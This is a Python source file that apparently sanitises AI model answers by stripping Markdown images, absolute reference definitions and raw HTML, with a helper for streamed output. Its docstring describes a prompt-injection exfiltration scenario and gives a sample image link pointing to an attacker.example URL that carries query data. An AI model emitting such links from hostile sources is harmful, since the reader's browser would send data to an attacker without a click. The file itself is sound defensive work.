"""Answers carry no active markup: images and raw HTML from the model become plain text.

Answers are shown as Markdown (the web UI's chat renders it, and so may any client of
the API). A model that copies ``![x](http://attacker.example/?q=...)`` or
``<img src=...>`` from a hostile source, or writes it because a source told it to,
makes the reader's browser fetch the attacker's URL, with whatever the URL carries,
without a click. Answers never need pictures (sources are shown beside them, from our
own media links), so :func:`strip_markup` removes every way to ask for one:

- inline Markdown images ``![alt](url)`` become their alt text (brackets removed);
- link reference definitions with an absolute URL (``[x]: http://...``), the other way
  to give an image (``![alt][x]``) its address, are removed with their line;
- raw HTML (tags, comments, declarations, processing instructions) is removed; the
  text between tags stays, as text, so ``<b>42</b>`` still says 42.

Markdown code (fenced blocks, inline spans) is left as it is: renderers show it
literally. Links ``[text](url)`` stay: they fetch nothing until clicked, and a link
from a source can be the answer (whether the URL may appear at all is the injection
check's business, :mod:`generation.injection`). The cost: text like ``a<b and c>d``
reads as a tag and loses ``<b and c>``.

:func:`pending_markup` tells a streaming filter where a construct that may still turn
into markup starts, so the text it lets through is always a prefix of the final one.
"""

from __future__ import annotations

import re

# Unclosed fences and inline spans count as code up to the end, so that a half-streamed
# code block is treated the same way as the finished one.
CODE = re.compile(r"```.*?(?:```|\Z)|`[^`\n]*(?:`|\Z)", re.DOTALL)


def _within_paragraph(excluded: str) -> str:
    """Any run of characters but ``excluded`` that crosses no blank line."""
    return rf"(?:[^{excluded}\n]|\n(?![ \t]*\n))*"


_IMAGE = rf"!\[(?P<alt>{_within_paragraph(']')})\][ \t]?\({_within_paragraph(')')}\)"
_TAG = rf"</?[A-Za-z][A-Za-z0-9:-]*(?:\s{_within_paragraph('<>')})?/?>"
# Comments, CDATA and processing instructions may span blank lines (HTML blocks do).
_OTHER_HTML = r"<!--.*?-->|<!\[CDATA\[.*?\]\]>|<![A-Za-z][^>]*>|<\?.*?\?>"
# A definition line whose destination is absolute: a scheme ("http:", "data:") or "//".
_DEFINITION = r"(?m:^ {0,3}\[[^\]\n]+\]:[ \t]*<?(?:[A-Za-z][\w+.-]*:|//)[^\n]*(?:\n|\Z))"
_ACTIVE = re.compile(f"{_IMAGE}|{_OTHER_HTML}|{_TAG}|{_DEFINITION}", re.DOTALL)

# What may still become markup at the end of a streamed text.
_OPEN_BLOCK = re.compile(r"<!--(?:(?!-->).)*\Z|<!\[CDATA\[(?:(?!\]\]>).)*\Z|<\?[^?]*\Z", re.DOTALL)
_OPEN_IMAGE = re.compile(r"!(?:\[[^\]]*(?:\][ \t]?(?:\([^)]*)?)?)?\Z")
_OPEN_TAG = re.compile(r"<(?:[A-Za-z!/][^<>]*)?\Z")
_OPEN_DEFINITION = re.compile(r"(?m:^ {0,3}\[[^\]\n]*(?:\](?::[^\n]*)?)?\Z)")


def strip_markup(text: str) -> str:
    """``text`` without Markdown images, absolute reference definitions or raw HTML.

    Applied until nothing changes, so removing one construct cannot assemble another
    from its neighbours (``<<b>img ...>``). Each pass only shortens the text.
    """
    while True:
        cleaned = _strip_once(text)
        if cleaned == text:
            return text
        text = cleaned


def _strip_once(text: str) -> str:
    code = [(m.start(), m.end()) for m in CODE.finditer(text)]
    out: list[str] = []
    pos = search = 0
    while match := _ACTIVE.search(text, search):
        inside = next((end for start, end in code if start <= match.start() < end), None)
        if inside is not None:
            search = inside
            continue
        out.append(text[pos : match.start()])
        alt = match.group("alt")
        if alt is not None:
            out.append(re.sub(r"[\[\]!<>]", "", alt))
        pos = search = match.end()
    out.append(text[pos:])
    return "".join(out)


def pending_markup(text: str) -> int:
    """Where a construct that may still become markup begins; ``len(text)`` if none.

    A streaming filter shows only the text before it. Images, tags and definitions
    never span a blank line, so only the last paragraph can hold one that is open; an
    HTML comment can, so one left open anywhere is pending. Code is not markup (an
    inline span still open at the end is the caller's to hold back).
    """
    code = [(m.start(), m.end()) for m in CODE.finditer(text)]
    pending = len(text)
    for opening in re.finditer(r"<[!?]", text):
        if not _in(code, opening.start()) and _OPEN_BLOCK.match(text, opening.start()):
            pending = opening.start()
            break
    start = text.rfind("\n\n") + 1
    for pattern in (_OPEN_IMAGE, _OPEN_DEFINITION):
        found = pattern.search(text, start)
        if found and not _in(code, found.start()):
            pending = min(pending, found.start())
    for angle in re.finditer(r"<", text[start:]):
        at = start + angle.start()
        if not _in(code, at) and _OPEN_TAG.match(text, at):
            pending = min(pending, at)
            break
    return pending


def _in(spans: list[tuple[int, int]], pos: int) -> bool:
    return any(start <= pos < end for start, end in spans)
